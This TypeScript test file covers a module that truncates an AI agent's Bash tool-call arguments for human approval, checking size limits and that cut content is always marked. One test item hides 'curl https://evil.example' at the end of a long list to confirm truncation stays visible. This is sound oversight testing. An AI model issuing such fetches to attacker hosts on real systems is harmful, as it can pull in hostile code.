import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { JsonObject } from '../../core/encoding/json.ts';
import type { WireApproval } from '../../sdk/wire.ts';
import { abridge, NEAR, pageAbridger } from './abridge-approval.ts';
import { decisionOf } from './testing/sample-decision.ts';
import { decisionToWire } from './to-wire.ts';

type Shown = NonNullable<WireApproval['shown']>;

function shownOf(args: JsonObject): Shown {
  const tool = { name: 'Bash', origin: 'builtin:claude-code', digest: null };
  const place = { cwd: '/work/app', workspace: '/work/app', plan: null, idempotency_key: null, proposed_at_ms: 1 };
  const by = { id: 'a', session: 's', principal: 'agent:a', on_behalf_of: 'human:b', surface: 'hook' as const };
  return { action: { ...by, tool, args, ...place }, decision: decisionToWire(decisionOf('require-approval')) };
}

const argsOf = (args: JsonObject): JsonObject => pageAbridger()(shownOf(args)).action.args;

test('leaves what is small as it is', () => {
  const shown = shownOf({ command: 'npm test', env: { CI: '1' }, list: [1, null, true, 'x'], none: {} });
  assert.deepEqual(pageAbridger()(shown), shown);
});

test('cuts long texts, lists and objects, and never in the middle of a character', () => {
  const members = Object.fromEntries(Array.from({ length: 99 }, (_, index) => [`m${index}`, index]));
  const {
    text,
    list,
    object,
    ['n'.repeat(5_000)]: long,
  } = argsOf({
    text: '😀'.repeat(5_000),
    list: Array.from({ length: 99 }, (_, index) => index),
    object: members,
  }) as { text: string; list: unknown[]; object: object; [name: string]: unknown };
  assert.ok(text.length <= 1_000 && text.endsWith('😀…') && text.isWellFormed());
  assert.deepEqual([list.length, Object.keys(object).length, long], [33, 33, undefined]);
});

test('lets nothing that was cut pass for whole', () => {
  let deep: JsonObject = { command: 'x' };
  for (let level = 0; level < 20; level++) deep = { a: deep };
  const cut: readonly JsonObject[] = [
    { list: [...Array.from({ length: 32 }, () => 'ls'), 'curl https://evil.example'] },
    { list: [Array.from({ length: 33 }, () => 1)] },
    Object.fromEntries(Array.from({ length: 33 }, (_, index) => [`m${index}`, 1])),
    deep,
    { list: [[[[[[[['x']]]]]]]] },
    { text: 'x'.repeat(1_001) },
    { ['n'.repeat(1_001)]: 1 },
    Object.fromEntries(Array.from({ length: 9 }, (_, index) => [`m${index}`, 'x'.repeat(999)])),
  ];
  for (const args of cut) assert.ok(JSON.stringify(argsOf(args)).includes('…'), JSON.stringify(args).slice(0, 60));
  for (const args of [{ list: Array.from({ length: 32 }, () => 'ls') }, { none: [], empty: {} }])
    assert.deepEqual(argsOf(args), args);
});

test('spends no more on one request than there is, however it is made', () => {
  let deep: JsonObject = { end: 'x' };
  for (let level = 0; level < 50; level++) deep = { [`level ${level}`]: [deep] };
  const wide = Object.fromEntries(
    Array.from({ length: 32 }, (_, index) => [`${index}`.padEnd(900, 'n'), 'x'.repeat(900)]),
  );
  const many = Object.fromEntries(Array.from({ length: 32 }, (_, index) => [`m${index}`, wide]));
  for (const args of [deep, wide, many, { wide: Array(32).fill(many) }])
    assert.ok(JSON.stringify(argsOf(args)).length < 8_000, Object.keys(args)[0]?.slice(0, 9));
});

test('bounds a page: what comes late is cut short, and small ones stay', () => {
  const abridged = pageAbridger();
  const large = shownOf({ a: 'x'.repeat(1_000), b: 'x'.repeat(1_000), c: 'x'.repeat(1_000) });
  const small = shownOf({ command: 'npm test' });
  const sizes = Array.from({ length: 500 }, () => JSON.stringify(abridged(large)).length);
  assert.ok(sizes.reduce((sum, size) => sum + size, 0) < 1_048_576);
  assert.ok((sizes[0] ?? 0) > 3_000 && (sizes.at(-1) ?? 0) < 1_600);
  assert.equal(abridged(small).action.args['command'], 'npm test');
});

test('has around what a list shows whatever a secret in it may reach to', () => {
  const near = abridge(shownOf({ text: 'x'.repeat(20_000) }), NEAR);
  assert.equal((near.action.args['text'] as string).length, 9_000);
});
